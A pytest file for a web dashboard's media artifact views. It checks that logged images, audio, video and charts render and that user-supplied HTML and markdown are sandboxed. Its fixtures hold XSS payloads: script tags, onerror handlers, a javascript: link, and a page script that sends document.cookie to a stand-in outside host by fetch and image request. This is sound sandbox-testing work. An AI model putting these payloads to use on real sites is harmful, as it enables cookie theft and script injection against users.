"""Media in the browser: drawn, heard or read; and a page of somebody else's reaches nothing."""

import socket
import threading
import time

import numpy as np
import pytest
from browser_runs import log_run
from strangers import Stranger

import quark

DEADLINE_S = 60
HOSTILE_MARKDOWN = """# A title

Some **bold** text, `code`, [a link](https://elsewhere.example/x)
and [none](javascript:window.ran=1).
<img src=x onerror="window.ran=1"><script>window.ran=1</script>
![pixel]({0}pixel)

- one
- two

| a | b |
|---|---|
| 1 | 2 |
"""
PAGE = """<!doctype html><html><head><title>mine</title>
<meta http-equiv="refresh" content="0;url={0}refreshed"><base href="{0}">
<link rel="preconnect" href="http://127.0.0.1:{1}/"><link rel="dns-prefetch" href="//a.example">
<link rel="prefetch" href="{0}prefetched"><link rel="stylesheet" href="{0}style.css">
<script src="{0}script.js"></script><script>
new WebSocket("ws://127.0.0.1:{1}/"); window.ran = 1;
try {{ parent.ran = 1; top.ran = 1 }} catch (error) {{}}
try {{ top.location = "{0}top" }} catch (error) {{}}
fetch("{0}fetched?" + document.cookie); new Image().src = "{0}image?" + document.cookie;
navigator.sendBeacon("{0}beacon", "x");
</script><style>@import "{0}import.css"; body {{ background: url({0}background) }}</style></head>
<body onload="top.ran=1"><h1>the page of somebody</h1><img src="{0}pixel" onerror="top.ran=1">
<iframe src="{0}frame"></iframe><object data="{0}object"></object><embed src="{0}embed">
<video src="{0}video" autoplay></video><a id=out href="{0}clicked">out</a>
<form action="{0}posted" method=post><button>send</button></form>
<svg><image href="{0}svg"/><script>top.ran=1</script></svg></body></html>"""


class Listener:
    """Counts who connects, and says nothing."""

    def __init__(self):
        self.count = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                self._socket.accept()[0].close()
            except OSError:
                return
            self.count += 1

    def close(self):
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture(scope="module")
def strangers():
    stranger, listener = Stranger(), Listener()
    yield stranger, listener
    stranger.stop()
    listener.close()


def log_media(session, root, stranger, listener):
    chance = np.random.default_rng(0)
    image = chance.integers(0, 256, (60, 90, 3), dtype=np.uint8)
    mask = np.zeros((60, 90), dtype=int)
    mask[20:40, 20:60] = 1
    folder = root / "files"
    folder.mkdir()
    (folder / "one.txt").write_text("one")
    truth = chance.integers(0, 2, 200)
    with quark.ArtifactStore(session) as artifacts:
        artifacts.log_image(
            "seen", [image, image], caption=["first", None], class_labels=["sky", "cat"], step=1,
            boxes=[{"truth": [{"box": [5, 20, 40, 55], "label": 1}], "told": [[1, 1, 9, 9]]}, None],
            masks=[mask, None],
        )  # fmt: skip
        artifacts.log_audio("sound", np.sin(np.arange(8000) / 9), sample_rate_hz=8000, step=1)
        artifacts.log_video(
            "clip", chance.integers(0, 256, (20, 64, 64, 3), dtype=np.uint8), fps=10
        )
        artifacts.log_point_cloud("points", chance.normal(size=(400, 4)))
        artifacts.log_html("page", PAGE.format(stranger.name(), listener.port))
        artifacts.log_markdown("notes", HOSTILE_MARKDOWN.format(stranger.name()))
        artifacts.log_confusion_matrix("confusion", truth, 1 - truth, labels=["cat", "dog"])
        artifacts.log_roc_curve("roc", truth, chance.random(200))
        for step in range(6):
            artifacts.log_histogram("weights", chance.normal(size=500) * (1 + step), step=step)
        artifacts.log_table("rows", [[image, 1]], columns=["image", "n"])
        artifacts.log_directory(folder, aliases=["gold"]).wait(60)
        artifacts.log_reference("corpus", "s3://bucket/corpus.tar", size_bytes=5)
    session.use_artifact("files:gold")


@pytest.fixture(scope="module")
def media(tmp_path_factory, strangers):
    pytest.importorskip("av")  # before a run begins, which would be left open
    root = tmp_path_factory.mktemp("media")
    log_run(root, "shown", {"loss": [1.0, 0.5]}, analyzes=False,
            more=lambda session: log_media(session, root, *strangers))  # fmt: skip
    return root


def show(visitor, name):
    visitor.page.get_by_role("button", name=f"Show {name}", exact=True).click()
    title = name.partition(" at ")[0]
    visitor.wait(
        "title => document.querySelector('#media-title')?.innerText.startsWith(title)", title
    )


def test_a_page_with_a_script_reaches_neither_page_nor_cookie_nor_network(
    visit, serve_shared, media, strangers
):
    stranger, listener = strangers
    asked, connected = len(stranger.asked), listener.count
    # What the browser refuses it says.
    visitor = visit(serve_shared(media), "run/shown?tab=artifacts", is_attacked=True)
    visitor.page.get_by_role("button", name="Show page", exact=True).click()
    frame = visitor.page.frame_locator(".page-frame")
    frame.get_by_text("the page of somebody").wait_for()
    visitor.page.wait_for_timeout(1500)
    # Scripts would have to run in it for any of this, and none does.
    assert visitor.evaluate("[window.ran ?? null, location.pathname]") == [None, "/run/shown"]
    inner = next(one for one in visitor.page.frames if one.parent_frame)
    assert inner.url.startswith(visitor.server.page.url)
    assert inner.evaluate("window.origin") == "null"
    assert "ran" not in inner.evaluate("Object.keys(window)")
    # What a reader does in it leads nowhere else either.
    frame.locator("#out").click()
    frame_or_none = visitor.page.frames
    visitor.page.wait_for_timeout(500)
    assert all("evil" not in one.url for one in frame_or_none)
    assert len(stranger.asked) == asked, stranger.asked[asked:]
    assert listener.count == connected
    assert visitor.evaluate("window.ran ?? null") is None


def test_the_page_itself_would_reach_the_stranger(strangers, visit, serve_shared, media):
    """So that the test before this one does not hold because nobody can be reached at all."""
    stranger, listener = strangers
    asked, connected = len(stranger.asked), listener.count
    visitor = visit(serve_shared(media), "run/shown?tab=artifacts", is_attacked=True)
    other = visitor.context.new_page()
    page = PAGE.format(stranger.name(), listener.port)
    # It would be gone before it has asked for all.
    other.set_content(page.replace("http-equiv", "name").replace("top.location", "top.other"))
    deadline = time.monotonic() + DEADLINE_S
    while not (len(stranger.asked) > asked and listener.count > connected):
        assert time.monotonic() < deadline, (stranger.asked[asked:], listener.count - connected)
        other.wait_for_timeout(50)
    other.close()


@pytest.mark.long
def test_what_is_logged_is_drawn(visit, serve_shared, media):
    visitor = visit(serve_shared(media), "run/shown?tab=artifacts")
    visitor.wait("document.querySelector('.picture canvas')?.dataset.painted")
    painted = """() => { const canvas = document.querySelector('.picture canvas');
        const copy = Object.assign(document.createElement('canvas'),
            {width: canvas.width, height: canvas.height}
        ).getContext('2d', {willReadFrequently: true});
        copy.drawImage(canvas, 0, 0);
        const {data} = copy.getImageData(0, 0, canvas.width, canvas.height);
        return data.filter((value, i) => i % 4 === 3 && value).length }"""
    whole = visitor.evaluate(painted)
    visitor.page.get_by_label("mask", exact=True).uncheck()
    visitor.wait(f"whole => ({painted})() < whole", whole)
    visitor.page.get_by_label("boxes truth").uncheck()
    visitor.page.get_by_label("boxes told").uncheck()
    visitor.wait(f"() => ({painted})() === 0")
    show(visitor, "points")
    visitor.wait("document.querySelector('canvas.points')")
    visitor.page.locator("canvas.points").press("ArrowLeft")
    show(visitor, "confusion")
    visitor.wait("document.querySelectorAll('.matrix tbody td').length === 4")
    show(visitor, "roc")
    visitor.wait("document.querySelector('.area polyline')?.getAttribute('points').length > 50")
    show(visitor, "weights at step 5")
    visitor.wait("window.quark.charts.find('weights')?.steps.length === 6")
    show(visitor, "files")
    visitor.wait_for_text("one.txt")
    show(visitor, "corpus")
    visitor.wait_for_text("s3://bucket/corpus.tar")
    visitor.check_axe()
    visitor.page.get_by_text("Versions and lineage").click()
    visitor.wait_for_text("files:v0")
    visitor.wait_for_text("gold, latest")
    assert visitor.errors == []


def test_sound_and_video_play_and_are_sought(visit, serve_shared, media):
    visitor = visit(serve_shared(media), "run/shown?tab=artifacts")
    show(visitor, "sound at step 1")
    visitor.wait("document.querySelector('audio')?.duration === 1")
    show(visitor, "clip")
    visitor.wait("document.querySelector('video')?.readyState >= 1")
    assert visitor.evaluate("Math.round(document.querySelector('video').duration)") == 2
    visitor.evaluate("document.querySelector('video').currentTime = 1.5")
    visitor.wait("document.querySelector('video').currentTime > 1.4")


def test_markdown_is_read_and_nothing_of_it_runs_or_loads(visit, serve_shared, media, strangers):
    stranger, _ = strangers
    asked = len(stranger.asked)
    visitor = visit(serve_shared(media), "run/shown?tab=artifacts")
    show(visitor, "notes")
    visitor.wait("document.querySelector('.prose strong')?.innerText === 'bold'")
    assert visitor.evaluate("[...document.querySelectorAll('.prose a')].map(a => a.href)") == [
        "https://elsewhere.example/x"
    ]
    assert visitor.page.locator(".prose img, .prose script").count() == 0
    assert visitor.page.locator(".prose li").count() == 2
    assert visitor.page.locator(".prose td").count() == 2
    assert visitor.evaluate("window.ran ?? null") is None
    assert len(stranger.asked) == asked
